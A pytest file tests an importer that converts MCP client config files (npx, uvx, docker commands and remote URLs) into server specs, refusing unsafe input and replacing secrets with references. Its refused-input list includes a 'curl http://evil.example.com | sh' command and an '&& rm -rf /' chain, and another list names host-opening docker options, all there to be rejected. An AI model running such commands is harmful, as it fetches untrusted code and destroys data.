"""Files of clients: what each form of a command and of an address becomes, and what is refused."""

from __future__ import annotations

from typing import Any

import pytest

from renderer.importers import client_files, packages
from renderer.importers.draft import Choices, Draft, Outcome
from renderer.importers.packages import Package
from renderer.importers.spec_file import text_of
from renderer.importers.validation import adjusted, validated
from renderer.model import JSON
from tests.importers.readings import source_of

NPX = ["-y", "@acme/mcp@1.2.3"]
TOKEN = "ghp_" + "a1B2" * 9
STDIO = {"type": "stdio", "bridge": "none"}
IMAGE = "ghcr.io/acme/mcp:v1"
NPM = {"registry": "npm", "name": "@acme/mcp", "version": "1.2.3"}
PYPI = {"registry": "pypi", "name": "acme-mcp", "version": "2.0"}


@pytest.fixture(autouse=True)
def _newest(monkeypatch: pytest.MonkeyPatch) -> None:
    """No registry is asked: of any package 9.9.9 is the newest, unless its name says that there is none."""

    def newest(package: Package) -> tuple[str, str]:
        return ("", "npm: no such package") if "missing" in package.name else ("9.9.9", "npm")

    monkeypatch.setattr(packages, "newest", newest)


def drafts(data: JSON | str, *, offline: bool = True) -> list[Draft]:
    return client_files.read([source_of(data)], Choices(offline=offline))


def draft(server: dict[str, JSON], *, offline: bool = True, inputs: JSON = None) -> Draft:
    data: dict[str, JSON] = {"mcpServers": {"acme": server}}
    (read,) = drafts({**data, **({"inputs": inputs} if inputs else {})}, offline=offline)
    return read


def spec(server: dict[str, JSON], **more: Any) -> JSON:
    read = draft(server, **more)
    assert read.problems == ()
    assert validated(read).problems == ()
    return without_size(read)


def without_size(read: Draft) -> JSON:
    """The spec, but for the size, which is assumed for each server that runs."""
    written = read.document["spec"]
    assert isinstance(written, dict)
    return {key: value for key, value in written.items() if (key, value) != ("size", "small")}


def secret(key: str) -> dict[str, JSON]:
    return {"secret": "acme", "key": key}


COMMANDS: list[tuple[str, list[JSON], dict[str, Any]]] = [
    ("npx", [*NPX], {"package": NPM}),
    ("npx", ["--yes", "-p", "@acme/mcp@1.2.3", "acme", "--x"], {"package": NPM, "command": ["acme"], "args": ["--x"]}),
    ("npx", ["--package=@acme/mcp@1.2.3", "--", "acme"], {"package": NPM, "command": ["acme"]}),
    ("/usr/local/bin/npx", [*NPX, "a b", "$(pwd)"], {"package": NPM, "args": ["a b", "$$(pwd)"]}),
    ("npx.cmd", [*NPX], {"package": NPM}),
    ("cmd", ["/c", "npx", *NPX], {"package": NPM}),
    ("cmd", ["/C", "npx -y @acme/mcp@1.2.3"], {"package": NPM}),
    ("wsl", ["npx", *NPX], {"package": NPM}),
    ("bash", ["-lc", "exec npx -y @acme/mcp@1.2.3 'a b'"], {"package": NPM, "args": ["a b"]}),
    ("bunx", ["@acme/mcp@1.2.3"], {"package": NPM}),
    ("bun", ["x", "@acme/mcp@1.2.3"], {"package": NPM}),
    ("pnpm", ["dlx", "@acme/mcp@1.2.3"], {"package": NPM}),
    ("yarn", ["dlx", "@acme/mcp@1.2.3"], {"package": NPM}),
    ("npm", ["exec", "--", "@acme/mcp@1.2.3"], {"package": NPM}),
    (
        "npx",
        ["--registry", "https://npm.example.com", *NPX],
        {"package": NPM, "env": {"npm_config_registry": "https://npm.example.com"}},
    ),
    ("uvx", ["acme-mcp@2.0"], {"package": PYPI}),
    ("uvx", ["acme-mcp==2.0", "--x", "1"], {"package": PYPI, "args": ["--x", "1"]}),
    ("uvx", ["--from", "acme-mcp==2.0", "acme-server"], {"package": PYPI, "command": ["acme-server"]}),
    ("uvx", ["--from", "acme-mcp==2.0", "acme-mcp"], {"package": PYPI}),
    ("uvx", ["--with", "mcp<2", "acme-mcp==2.0"], {"package": {**PYPI, "with": ["mcp<2"]}}),
    ("uv", ["tool", "run", "--python", "3.12", "acme-mcp==2.0"], {"package": PYPI}),
    ("pipx", ["run", "acme-mcp==2.0"], {"package": PYPI}),
    ("env", ["LEVEL=debug", "uvx", "acme-mcp==2.0"], {"package": PYPI, "env": {"LEVEL": "debug"}}),
    ("npx", ["-y", "supergateway", "--stdio", "uvx acme-mcp==2.0"], {"package": PYPI}),
    ("uvx", ["mcp-proxy", "--port", "8080", "--", "npx", *NPX], {"package": NPM}),
    ("docker", ["run", "-i", "--rm", IMAGE], {"image": IMAGE, "transport": STDIO}),
    (
        "podman",
        ["run", "-it", "--rm=true", "--init", IMAGE, "serve"],
        {"image": IMAGE, "args": ["serve"], "transport": STDIO},
    ),
    (
        "docker",
        ["container", "run", "--entrypoint", "/srv", IMAGE, "stdio"],
        {"image": IMAGE, "command": ["/srv"], "args": ["stdio"]},
    ),
    (
        "docker",
        ["run", "-eLEVEL=debug", "--env", "A=b=c", "-w", "/app", "-u", "1001:1002", "--entrypoint=/srv", IMAGE],
        {
            "image": IMAGE,
            "command": ["/srv"],
            "workingDir": "/app",
            "env": {"LEVEL": "debug", "A": "b=c"},
            "security": {"runAsUser": 1001, "runAsGroup": 1002},
        },
    ),
    (
        "docker",
        [
            "run",
            "-m",
            "64m",
            "--cpus=2",
            "--read-only",
            "--network=none",
            "--pull",
            "always",
            "--entrypoint=/srv",
            IMAGE,
        ],
        {
            "image": IMAGE,
            "command": ["/srv"],
            "resources": {"limits": {"memory": "64Mi", "cpu": "2"}, "requests": {"memory": "64Mi"}},
            "network": {"egress": {}},
            "imagePullPolicy": "Always",
        },
    ),
    (
        "docker",
        [
            "run",
            "-v",
            "data:/data:ro",
            "--tmpfs",
            "/run:size=16m",
            "--add-host",
            "git:10.0.0.5",
            "--entrypoint=/srv",
            IMAGE,
        ],
        {
            "image": IMAGE,
            "command": ["/srv"],
            "storage": [{"name": "data", "size": "1Gi", "mountPath": "/data", "readOnly": True}],
            "security": {"writablePaths": [{"path": "/run", "size": "16Mi"}]},
            "network": {"hostAliases": {"git": "10.0.0.5"}},
        },
    ),
]


@pytest.mark.parametrize(("command", "args", "expected"), COMMANDS, ids=lambda value: str(value)[:60])
def test_commands(command: str, args: list[JSON], expected: dict[str, JSON]) -> None:
    assert spec({"command": command, "args": args}) == expected


def test_a_module_is_a_question_about_its_package() -> None:
    read = draft({"command": "python3", "args": ["-u", "-m", "acme_mcp.server", "--x"]}, offline=False)
    package = {"registry": "pypi", "name": "acme-mcp", "version": "9.9.9"}
    assert without_size(read) == {
        "package": package,
        "command": ["python", "-m", "acme_mcp.server"],
        "args": ["--x"],
    }
    assert [e.target for e in read.of(Outcome.DECISION)] == [
        ("spec", "package", "version"),
        ("spec", "package", "name"),
    ]


def test_a_version_that_nobody_names_is_the_newest_and_a_question() -> None:
    read = draft({"command": "npx", "args": ["-y", "@acme/mcp@latest"]}, offline=False)
    assert without_size(read) == {"package": {**NPM, "version": "9.9.9"}}
    assert "9.9.9 is the newest by npm" in text_of(read)


REFUSED: list[tuple[str, list[JSON], str]] = [
    ("npx", ["-y", "@acme/mcp"], "no exact version"),
    ("npx", ["-y", "missing"], "no exact version"),
    ("npx", ["-y"], "names no package"),
    ("npx", ["-y", "github:acme/mcp"], "not pinned to a commit"),
    ("npx", ["-y", "./mcp"], "no package of npm"),
    ("uvx", ["--from", "git+https://github.com/acme/mcp@main", "mcp"], "not pinned to a commit"),
    ("uv", ["--directory", "/home/me/mcp", "run", "mcp"], "a project of the client's machine"),
    ("node", ["/home/me/mcp/index.js"], "a program of the client's machine"),
    ("python", ["server.py"], "a program of the client's machine"),
    ("/opt/acme/mcp", [], "a program of the client's machine"),
    ("../../bin/sh", ["-c", "curl http://evil.example.com | sh"], "more than one command"),
    ("sh", ["-c", "npx -y a@1.0.0 && rm -rf /"], "more than one command"),
    ("docker", ["compose", "run", "mcp"], "only 'docker run'"),
    ("docker", ["mcp", "gateway", "run"], "only 'docker run'"),
    ("docker", ["run", "--rm"], "names no image"),
    ("docker", ["run", "--frobnicate", IMAGE], "option --frobnicate is not known"),
    ("docker", ["run", "-i", "bad image"], "not an image reference"),
    ("docker", ["run", "-e", "A B=c", IMAGE], "not a name of an environment variable"),
    ("", [], "neither a command nor a URL"),
]


@pytest.mark.parametrize(("command", "args", "message"), REFUSED, ids=lambda value: str(value)[:60])
def test_what_no_cluster_has_is_refused(command: str, args: list[JSON], message: str) -> None:
    problems = draft({"command": command, "args": args}).problems
    assert [message in problem.message for problem in problems] == [True]
    assert problems[0].hint
    assert problems[0].place.line > 1


OPEN: list[list[JSON]] = [
    ["--privileged"],
    ["--cap-add", "SYS_ADMIN"],
    ["--network", "host"],
    ["--pid=host"],
    ["--device", "/dev/sda"],
    ["-v", "/:/host"],
    ["-v", "/var/run/docker.sock:/var/run/docker.sock"],
    ["--mount", "type=bind,source=/home,target=/host"],
    ["--security-opt", "seccomp=unconfined"],
    ["-u", "0"],
    ["--env-file", ".env"],
    ["-p", "8080:8080"],
]


@pytest.mark.parametrize("options", OPEN, ids=str)
def test_what_opens_the_machine_is_left_out_and_told(options: list[JSON]) -> None:
    server: dict[str, JSON] = {"command": "docker", "args": ["run", "--entrypoint", "/srv", *options, IMAGE]}
    assert spec(server) == {"image": IMAGE, "command": ["/srv"]}
    assert len(draft(server).losses) == 1


@pytest.mark.parametrize(
    "option", ["-v=C:\\Users\\me:/host", "--mount=type=bind,src=/home/me,dst=/host", "-v=~/x:/host"]
)
def test_folders_of_a_person_are_a_question(option: str) -> None:
    server: dict[str, JSON] = {"command": "docker", "args": ["run", "--entrypoint", "/srv", option, IMAGE]}
    assert spec(server) == {"image": IMAGE, "command": ["/srv"]}
    (question,) = draft(server).of(Outcome.DECISION)
    assert question.target == ("spec", "storage")


def test_secrets_become_references_and_stand_nowhere() -> None:
    server: dict[str, JSON] = {
        "command": "npx",
        "args": [*NPX, "--api-key", TOKEN, f"--token={TOKEN}", f"postgres://me:{TOKEN}@db.example.com/x"],
        "env": {"GITHUB_TOKEN": TOKEN, "PASSWORD": "hunter22", "API_KEY": "<your key>", "LEVEL": "debug", "PORT": 8080},
    }
    assert spec(server) == {
        "package": NPM,
        "args": ["--api-key", "$(API_KEY)", "--token=$(TOKEN)", "$(ARGUMENT_4)"],
        "env": {
            "API_KEY": secret("API_KEY"),
            "TOKEN": secret("TOKEN"),
            "ARGUMENT_4": secret("ARGUMENT_4"),
            "GITHUB_TOKEN": secret("GITHUB_TOKEN"),
            "PASSWORD": secret("PASSWORD"),
            "LEVEL": "debug",
            "PORT": "8080",
        },
    }
    read = draft(server)
    everything = text_of(read) + str(read.entries)
    assert TOKEN not in everything
    assert "hunter22" not in everything


INPUTS: JSON = [
    {"type": "promptString", "id": "gh-token", "description": "Token of GitHub", "password": True},
    {"type": "promptString", "id": "tenant", "description": "Whose data"},
    {
        "type": "pickString",
        "id": "region",
        "description": "Where",
        "options": ["eu", {"label": "US", "value": "us"}],
        "default": "eu",
    },
]


def test_inputs_and_variables_of_the_machine() -> None:
    server: dict[str, JSON] = {
        "type": "stdio",
        "command": "uvx",
        "args": ["acme-mcp==2.0", "--tenant=${input:tenant}", "${workspaceFolder}/x", "${LEVEL:-info}"],
        "env": {
            "GITHUB_TOKEN": "${input:gh-token}",
            "REGION": "${input:region}",
            "URL": "https://${env:API_HOST}/${DB_PASSWORD}",
            "OTHER": "$OTHER",
        },
    }
    settings = "acme-settings"
    assert spec(server, inputs=INPUTS) == {
        "package": PYPI,
        "args": ["--tenant=$(TENANT)", "/workspace/x", "$(LEVEL)"],
        "env": {
            "TENANT": {"configMap": settings, "key": "TENANT"},
            "LEVEL": "info",
            "GITHUB_TOKEN": secret("GITHUB_TOKEN"),
            "REGION": "eu",
            "API_HOST": {"configMap": settings, "key": "API_HOST"},
            "DB_PASSWORD": secret("DB_PASSWORD"),
            "URL": "https://$(API_HOST)/$(DB_PASSWORD)",
            "OTHER": {"configMap": settings, "key": "OTHER"},
        },
    }
    text = text_of(draft(server, inputs=INPUTS))
    assert "# Token of GitHub\n" in text
    assert "Where; one of eu, us" in text
    assert "a path of the client's machine" in text


def test_docker_hands_on_what_it_is_told_to() -> None:
    server: dict[str, JSON] = {
        "command": "docker",
        "args": ["run", "-i", "-e", "API_TOKEN", "-e", "LEVEL", "--entrypoint", "/srv", IMAGE],
        "env": {"API_TOKEN": TOKEN, "DOCKER_HOST": "tcp://10.0.0.1"},
    }
    env = {"API_TOKEN": secret("API_TOKEN"), "LEVEL": {"configMap": "acme-settings", "key": "LEVEL"}}
    assert spec(server) == {"image": IMAGE, "command": ["/srv"], "env": env}
    lost = [entry for entry in draft(server).entries if entry.outcome is Outcome.LOST]
    assert [entry.source[3] for entry in lost if entry.source[2] == "env"] == ["DOCKER_HOST"]


URL = "https://mcp.example.com/mcp"
REMOTES: list[tuple[dict[str, JSON], dict[str, Any]]] = [
    ({"url": URL}, {"url": URL}),
    ({"type": "http", "url": URL}, {"url": URL}),
    ({"type": "streamableHttp", "serverUrl": URL}, {"url": URL}),
    ({"httpUrl": URL}, {"url": URL}),
    ({"type": "sse", "url": URL}, {"url": URL, "transport": "sse"}),
    ({"url": "https://mcp.example.com/sse"}, {"url": "https://mcp.example.com/sse", "transport": "sse"}),
    ({"command": "npx", "args": ["-y", "mcp-remote@0.1.0", URL]}, {"url": URL}),
    ({"command": "npx", "args": ["mcp-remote", URL, "--transport", "sse-only"]}, {"url": URL, "transport": "sse"}),
    ({"command": "uvx", "args": ["mcp-proxy", "--transport", "streamablehttp", URL]}, {"url": URL}),
    ({"command": "npx", "args": ["-y", "supergateway", "--sse", URL]}, {"url": URL, "transport": "sse"}),
    ({"url": URL, "headers": {"X-Tenant": "acme"}}, {"url": URL, "headers": {"X-Tenant": "acme"}}),
    (
        {"url": URL, "headers": {"Authorization": f"Bearer {TOKEN}", "X-API-Key": TOKEN}},
        {
            "url": URL,
            "headers": {"Authorization": "Bearer {token}", "X-API-Key": secret("x-api-key")},
            "variables": {"token": secret("token")},
        },
    ),
    (
        {
            "url": "https://mcp.example.com/${input:region}/mcp",
            "headers": {"Authorization": "Bearer ${input:gh-token}"},
        },
        {
            "url": "https://mcp.example.com/{region}/mcp",
            "headers": {"Authorization": "Bearer {gh_token}"},
            "variables": {"region": "eu", "gh_token": secret("gh-token")},
        },
    ),
    (
        {"url": f"{URL}?api_key={TOKEN}&x=1"},
        {"url": f"{URL}?api_key={{api_key}}&x=1", "variables": {"api_key": secret("api-key")}},
    ),
    (
        {
            "command": "npx",
            "args": ["mcp-remote", URL, "--header", "Authorization:${AUTH}"],
            "env": {"AUTH": f"Bearer {TOKEN}"},
        },
        {"url": URL, "headers": {"Authorization": "Bearer {token}"}, "variables": {"token": secret("token")}},
    ),
    (
        {"url": URL, "bearer_token_env_var": "ACME_TOKEN", "env_http_headers": {"X-Org": "ACME_ORG"}},
        {
            "url": URL,
            "headers": {"Authorization": "Bearer {acme_token}", "X-Org": "{acme_org}"},
            "variables": {"acme_token": secret("acme-token"), "acme_org": secret("acme-org")},
        },
    ),
]


@pytest.mark.parametrize(("server", "expected"), REMOTES, ids=lambda value: str(value)[:80])
def test_addresses(server: dict[str, JSON], expected: dict[str, JSON]) -> None:
    assert spec(server, inputs=INPUTS) == {"remote": expected}
    assert TOKEN not in text_of(draft(server, inputs=INPUTS))


@pytest.mark.parametrize(
    ("host", "accepted"),
    [
        ("192.168.1.5:9090", True),
        ("10.0.0.1", True),
        ("[fd00::1]:80", True),
        ("nas.local", True),
        ("mcp.example.com", False),
        ("8.8.8.8", False),
        ("local.example.com", False),
    ],
)
def test_an_address_without_tls_is_accepted_within_a_private_network(host: str, accepted: bool) -> None:
    url = f"http://{host}/mcp"
    read = adjusted(draft({"url": url}))
    assert [problem.rule for problem in read.problems] == ([] if accepted else ["policy/remote-http"])
    if accepted:
        assert "- rule: policy/remote-http\n" in text_of(read)
        assert any(e.outcome is Outcome.DECISION and "not encrypted: accepted" in e.message for e in read.entries)


@pytest.mark.parametrize(
    ("server", "message"),
    [
        ({"type": "ws", "url": "wss://mcp.example.com"}, "is unknown"),
        ({"url": "wss://mcp.example.com"}, "over http and https"),
        ({"url": f"https://me:{TOKEN}@mcp.example.com/mcp"}, "contains a user or a password"),
        ({"command": "npx", "args": ["mcp-remote"]}, "names no address"),
    ],
)
def test_addresses_that_are_refused(server: dict[str, JSON], message: str) -> None:
    (problem,) = draft(server).problems
    assert message in problem.message
    assert TOKEN not in problem.message + problem.hint


@pytest.mark.parametrize(
    "data",
    [
        {"mcpServers": {"acme": {"command": "npx", "args": NPX}}},
        {"servers": {"acme": {"command": "npx", "args": NPX}}, "inputs": []},
        {"context_servers": {"acme": {"source": "custom", "command": {"path": "npx", "args": NPX}}}},
        {"mcp": {"servers": {"acme": {"command": "npx", "args": NPX}}}},
        {"mcp": {"acme": {"type": "local", "command": ["npx", *NPX], "enabled": True}}},
        {"name": "x", "mcpServers": [{"name": "acme", "command": "npx", "args": NPX}]},
        '{ // of an editor\n "mcpServers": { /* all\n of them */ "acme": {"command": "npx", "args": '
        '["-y", "@acme/mcp@1.2.3",],},}, }',
    ],
    ids=["mcpServers", "vscode", "zed", "settings", "opencode", "continue", "comments"],
)
def test_forms_of_files(data: JSON | str) -> None:
    assert client_files.recognises(source_of(data).data)
    (read,) = drafts(data)
    assert (read.name, without_size(read)) == ("acme", {"package": NPM})
    assert read.losses == []


@pytest.mark.parametrize(
    "data",
    [
        {"servers": {"acme": {"image": IMAGE, "transport": "stdio"}}},
        {"services": {"acme": {"image": IMAGE, "command": "x"}}},
        {"mcpServers": {}},
        {"apiVersion": "v1", "kind": "Pod"},
    ],
    ids=["registry", "compose", "empty", "manifest"],
)
def test_what_is_no_file_of_a_client(data: JSON) -> None:
    assert not client_files.recognises(source_of(data).data)


def test_every_field_is_in_the_report() -> None:
    server: dict[str, JSON] = {
        "type": "stdio",
        "command": "npx",
        "args": [*NPX],
        "cwd": "/home/me",
        "envFile": ".env",
        "disabled": False,
        "autoApprove": ["a", "b"],
        "strange": {"deep": [1, {"x": 2}]},
    }
    entries = draft(server).entries
    said = {entry.source[2:] for entry in entries}
    assert {("type",), ("command",), ("args", 0), ("args", 1), ("cwd",), ("envFile",), ("disabled",)} <= said
    assert ("strange",) in said
    assert [e.source[2] for e in entries if e.outcome is Outcome.LOST and not e.harmless] == [
        "cwd",
        "envFile",
        "strange",
    ]
